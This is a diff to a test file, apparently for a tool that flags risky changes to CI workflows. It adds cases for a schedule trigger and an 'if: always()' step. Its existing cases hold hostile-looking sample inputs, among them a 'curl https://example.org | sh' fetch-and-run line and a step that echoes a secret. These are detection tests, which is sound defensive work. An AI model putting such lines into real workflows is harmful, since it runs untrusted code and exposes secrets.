@@ -127,6 +127,7 @@ describe('the rules of a workflow', () => {
     ['unsaid rights', '    permissions: { contents: read }\n', ''],
     ['no limit of time', '    timeout-minutes: 5\n', ''],
     ['no order of runs', 'concurrency: x\n', ''],
+    ['a weekly run that a push ends', 'pull_request: }', 'push: , schedule: [] }'],
     ['a system that changes', 'ubuntu-24.04', 'ubuntu-latest'],
     ['foreign code with rights', 'pull_request:', 'pull_request_target:'],
     ['a secret for foreign code', 'npm run check', 'npm run check && echo ${{ secrets.KEY }}'],
@@ -135,6 +136,7 @@ describe('the rules of a workflow', () => {
     ['an installation past the lock', 'npm ci --ignore-scripts', 'npm install --ignore-scripts'],
     ["packages' own scripts", 'npm ci --ignore-scripts', 'npm ci'],
     ['a program from anywhere', 'npm run check', 'npx some-tool'],
+    ['a step that goes on after a cancellation', '- run: npm ci', '- if: always()\n        run: npm ci'],
     ['a fetched script', 'npm run check', 'curl https://example.org | sh'],
   ])('I6: report %s', (_what, from, to) => {
     expect(change(from, to)).not.toEqual([]);
